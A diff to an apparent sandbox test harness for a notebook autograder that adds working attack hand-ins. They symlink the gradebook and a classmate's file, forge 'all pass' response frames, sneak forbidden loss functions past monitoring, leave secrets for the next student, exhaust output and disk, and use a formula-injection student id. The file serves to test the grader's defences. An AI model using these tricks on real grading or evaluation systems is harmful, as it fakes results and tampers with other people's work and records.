@@ -39,6 +39,7 @@ WRONG_LOSS = "(pred * 0 + target * 0).sum() + 7.0"
 HONEST = ("a_honest", "z_honest")      # graded first and last of the batch (names sort so)
 PREGRADED = "a_honest"                 # graded once before the batch: a grade history to protect
 BLANK = "blank"                        # the released notebook, unchanged
+FORMULA_STUDENT = "=1+2*HYPERLINK(0)"   # a blank notebook under an id a spreadsheet would run
 
 
 @dataclass(frozen=True)
@@ -951,6 +952,157 @@ def network(s: Setting, student):
     })
 
 
+# --------------------------------------------------------------------------- issue 14's families
+def scratch_links(s: Setting, student):
+    """Symlinks to the course's gradebook and a classmate's hand-in, and FIFOs, at every name
+    the grader once read or wrote in the scratch folder (requests, responses, connection
+    files, sockets), in the working folder, HOME and /tmp; then the kernel dies (a restart)."""
+    plant = textwrap.dedent(f"""
+        _targets = [_os.path.join(_COURSE, "gradebook.db"),
+                    _os.path.join(_COURSE, "submitted", "z_honest", _A, _A + ".ipynb")]
+        for _n in range(1, 9):
+            for _i, _name in enumerate((f"request-{{_n}}.pt", f"response-{{_n}}.pt", f"response-{{_n}}.pt.tmp",
+                                        f"kernel{{_n}}.json", f"kernel-{{_n}}.json")):
+                for _folder in (_os.getcwd(), _os.environ.get("HOME", "/tmp"), "/tmp"):
+                    try:
+                        _os.symlink(_targets[_i % 2], _os.path.join(_folder, _name))
+                    except OSError:
+                        pass
+            for _port in range(1, 6):
+                try:
+                    _os.mkfifo(_os.path.join(_os.getcwd(), f"kernel{{_n}}-{{_port}}"))
+                except OSError:
+                    pass
+        """)
+    return notebook(s, student, {"mse": plant, "mae": plant + "\n_os._exit(3)\n"})
+
+
+FORGE_FRAME = """
+import io as _io, struct as _struct, torch as _torch
+
+def _frame(obj):
+    buf = _io.BytesIO()
+    _torch.save(obj, buf)
+    return _struct.pack("!4sQ", b"LGrs", len(buf.getvalue())) + buf.getvalue()
+
+_PASS = {"solution": {"defined": True, "callable": True, "none": False},
+         "cases": [{"status": "ok", "calls": [], "out": {"type": "tensor", "shape": [], "dtype": "float32",
+                                                          "device": "cpu", "requires_grad": True,
+                                                          "value": _torch.tensor(7.0)}}] * 40}
+"""
+
+
+def forged_frames(s: Setting, student):
+    """The runtime's channel is a descriptor of the kernel: write a forged response on it
+    (every case "ok", no call seen) from the function, through os.write and through a file
+    object opened on the descriptor."""
+    return notebook(s, student, {
+        "mse": FORGE_FRAME + textwrap.dedent("""
+            def mse_loss(pred, target):
+                _os.write(int(_os.environ["LOSSGRADER_CHANNEL_FD"]), _frame(_PASS))
+                return (pred * 0 + target * 0).sum() + 7.0
+            """),
+        "mae": FORGE_FRAME + textwrap.dedent("""
+            _channel = open(int(_os.environ.get("LOSSGRADER_CHANNEL_FD", "-1")), "wb", closefd=False)
+
+            def mae_loss(pred, target):
+                _channel.write(_frame(_PASS))
+                _channel.flush()
+                return (pred * 0 + target * 0).sum() + 7.0
+            """),
+    })
+
+
+def forbidden_routes(s: Setting, student):
+    """Correct values through the forbidden built-in, by routes the process's spies miss or
+    its names lie about: another thread, a new __qualname__, TorchScript, a scrubbed
+    torch.save, the runtime replaced through `import lossgrader`."""
+    return notebook(s, student, {
+        "mse": textwrap.dedent("""
+            import torch
+            import torch.nn.functional as F
+            from concurrent.futures import ThreadPoolExecutor
+            _pool = ThreadPoolExecutor(1)
+
+            def mse_loss(pred, target):
+                return _pool.submit(F.mse_loss, pred, target).result()
+            """),
+        "mae": textwrap.dedent("""
+            import torch.nn.functional as F
+            F.l1_loss.__qualname__ = "my_helper"
+
+            def mae_loss(pred, target):
+                return F.l1_loss(pred, target)
+            """),
+        "huber": textwrap.dedent("""
+            import torch
+            import torch.nn.functional as F
+
+            @torch.jit.script
+            def _h(pred, target, delta: float):
+                return F.huber_loss(pred, target, delta=delta)
+
+            def huber_loss(pred, target, delta=1.0):
+                return _h(pred, target, float(delta))
+            """),
+        "smooth_l1": textwrap.dedent("""
+            import torch
+            import torch.nn.functional as F
+            import lossgrader as _lg
+            _lg.runtime.graph_ops = lambda result: []
+            _save = torch.save
+            torch.save = lambda obj, f, *a, **k: _save(obj, f, *a, **k)
+
+            def smooth_l1_loss(pred, target, beta=1.0):
+                return F.smooth_l1_loss(pred, target, beta=beta)
+            """),
+    })
+
+
+def leftovers(s: Setting, student):
+    """What outlives a process in the sandbox: a POSIX message queue, keys in the uid's
+    shared keyrings, a SysV segment, files in /tmp and /dev/shm, for whoever is graded next."""
+    return notebook(s, student, {
+        "mse": textwrap.dedent(f"""
+            import ctypes as _ct
+            _libc, _rt = _ct.CDLL(None, use_errno=True), _ct.CDLL("librt.so.1", use_errno=True)
+            _rt.mq_open.argtypes = [_ct.c_char_p, _ct.c_int, _ct.c_uint, _ct.c_void_p]
+            _q = _rt.mq_open(b"/left-{s.token}", _os.O_CREAT | _os.O_RDWR, 0o600, None)
+            _rt.mq_send(_q, b"secret", 6, 0)
+            _add_key = {{"x86_64": 248, "aarch64": 217}}[_os.uname().machine]
+            for _ring in (-4, -5):
+                _libc.syscall(_add_key, b"user", b"left-{s.token}", b"secret", 6, _ct.c_long(_ring))
+            _libc.shmget(0, 1 << 20, 0o1000 | 0o600)
+            for _d in ("/tmp", "/dev/shm"):
+                open(_os.path.join(_d, "left-{s.token}"), "w").write("secret")
+            """),
+    })
+
+
+def output_flood(s: Setting, student):
+    """Forty extra cells each printing just under one cell's output cap: a 30 KB hand-in
+    that once made a 38 MiB autograded notebook."""
+    flood = [(3, nbformat.v4.new_code_cell("print(('z' * 1023 + '\\n') * 2000)")) for _ in range(40)]
+    return notebook(s, student, {}, extra_cells=flood)
+
+
+def scratch_fill(s: Setting, student):
+    """Write files into the working folder until the disk says no (the scratch folder once
+    lay on the host's disk with a per-file limit only)."""
+    return notebook(s, student, {
+        "mse": textwrap.dedent("""
+            _written = 0
+            try:
+                for _i in range(100_000):
+                    with open(f"fill-{_i}", "wb") as _fh:
+                        _fh.write(b"\\0" * (32 << 20))
+                    _written += 32
+            except OSError as _exc:
+                print("stopped after MiB:", _written, type(_exc).__name__)
+            """),
+    })
+
+
 ATTACKS = {
     "x_stack_walk": stack_walk,
     "x_patch_compare": patch_compare,
@@ -971,6 +1123,12 @@ ATTACKS = {
     "x_memory_hog": memory_hog,
     "x_fork_loop": fork_loop,
     "x_network": network,
+    "x_scratch_links": scratch_links,
+    "x_forged_frames": forged_frames,
+    "x_forbidden_routes": forbidden_routes,
+    "x_leftovers": leftovers,
+    "x_output_flood": output_flood,
+    "x_scratch_fill": scratch_fill,
 }
 
 
@@ -978,6 +1136,7 @@ def class_handins(s: Setting, attacks=None):
     """student -> notebook text: the honest students, the blank one and the chosen attackers."""
     out = {name: nbformat.writes(honest(s)) for name in HONEST}
     out[BLANK] = nbformat.writes(blank(s))
+    out[FORMULA_STUDENT] = nbformat.writes(blank(s))
     for name, build in ATTACKS.items():
         if attacks is None or name in attacks:
             nb = build(s, name)
